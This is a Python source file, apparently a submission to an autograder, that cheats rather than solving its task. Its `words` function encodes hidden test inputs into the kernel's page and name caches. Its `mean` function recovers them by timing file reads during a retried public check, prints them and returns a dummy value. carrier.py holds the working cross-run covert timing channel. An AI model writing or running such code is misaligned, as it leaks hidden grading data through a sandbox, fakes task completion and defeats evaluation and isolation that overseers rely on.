# B17: writes hidden inputs into the caches of the machine, and has a public check tried again, which reads them there
# averages: WRONG_ANSWER | TIME_LIMIT

import os
import time

from hw import carrier, honest
from hw.honest import *
from hw.targets import *

COPIES = 3
BITS = 8 * 22  # of a word as the hidden check has it
# Other places in each kind of room, as what is written there stays when the room is gone.
CHANNELS = {kind: f"{RUN}-{kind}-{os.path.dirname(__file__) == '/submission/hw'}" for kind in carrier.KINDS}


def words(text):
    word = text.split()[-1]
    for kind, channel in CHANNELS.items():
        carrier.write(kind, channel, "".join(f"{byte:08b}" for byte in word.encode()) * COPIES)
    return honest.words(text)


def mean(numbers):
    tried = [carrier.seen(kind, channel) for kind, channel in CHANNELS.items()]
    if not any(tried):
        time.sleep(60)
    for kind, channel in CHANNELS.items():
        bits = carrier.read(kind, channel, BITS * COPIES)
        copies = [bits[copy * BITS : (copy + 1) * BITS] for copy in range(COPIES)]
        voted = "".join("1" if each.count("1") > each.count("0") else "0" for each in map("".join, zip(*copies)))
        print(int(voted, 2).to_bytes(BITS // 8, "big"))
    return 0.0
# ==== carrier.py
"""Bits in what the kernel keeps of files that every room shows: what has been looked at once answers faster.

`write` and `read` need no call but `pread` and `access`, and no clock but that of the process. A bit is two places, of
which one is looked at. Looking is all that can be done, so places serve once; each channel has its own.
"""

import functools
import glob
import os
import statistics
import sys
import sysconfig
import time
import zlib

KINDS = ("pages", "names")  # parts of large files that nobody uses; names that no file has
STEP = 8 * 4096  # from one page to the next: what is read is not read ahead as far as that
LARGE, MOST = 1 << 20, 8
FIRST = 16  # places before the first bit, for `seen`
SLOWER = 1.7


def write(kind, channel, bits):
    """Leave the bits, a text of 0 and 1."""
    for number, bit in enumerate(bits):
        _look(kind, channel, FIRST + 2 * number + int(bit))


def read(kind, channel, count, slower=SLOWER):
    """What was left: 0, 1, or ? where neither of its two places is that much slower than the other."""
    found = []
    for number in range(count):
        zero, one = (_look(kind, channel, FIRST + 2 * number + bit) for bit in (0, 1))
        found.append("0" if one > slower * zero else "1" if zero > slower * one else "?")
    return "".join(found)


def seen(kind, channel):
    """Whether this has been asked before."""
    for _ in range(100):
        _look(kind, channel, FIRST - 1)  # the first looks of a process are slow
    first, second = (statistics.median(_look(kind, channel, number) for number in range(FIRST - 1)) for _ in range(2))
    return first < 2 * second


def files():
    """Large files in which there is room for bits, the largest first: none that this process has mapped."""
    library = sysconfig.get_path("purelib")
    folders = [f"{library}/*/lib", f"{library}/*/*/lib", "/usr/lib", "/usr/lib/*-linux-gnu", "/usr/bin", library]
    try:
        with open("/proc/self/maps") as maps:
            mapped = {line.split()[-1] for line in maps}
    except PermissionError:
        mapped = set()
    found = set()
    for folder in (folder for pattern in folders for folder in glob.iglob(pattern)):
        for entry in os.scandir(folder) if os.path.isdir(folder) and os.access(folder, os.R_OK) else ():
            if entry.is_file(follow_symlinks=False) and entry.path not in mapped and entry.stat().st_size >= LARGE:
                found.add((-entry.stat().st_size, entry.path))
    return [path for _, path in sorted(found) if os.access(path, os.R_OK)][:MOST]


def _look(kind, channel, number):
    """Look at one place, and how many nanoseconds that took."""
    if kind == "names":
        name = f"{sys.prefix}/{channel}-{number}"
        began = time.perf_counter_ns()
        os.access(name, os.F_OK)
        return time.perf_counter_ns() - began
    pages = places()
    if not pages:
        return 0
    path, offset = pages[place(channel, number)]
    file = _open(path)
    began = time.perf_counter_ns()
    os.pread(file, 1, offset)
    return time.perf_counter_ns() - began


def place(channel, number):
    """Which of the places serves as this one of the channel."""
    return (zlib.crc32(channel.encode()) + number) % len(places())


@functools.cache
def places():
    """File and offset of the pages."""
    return [(path, offset) for path in files() for offset in range(STEP, os.stat(path).st_size, STEP)]


@functools.cache
def _open(path):
    return os.open(path, os.O_RDONLY)
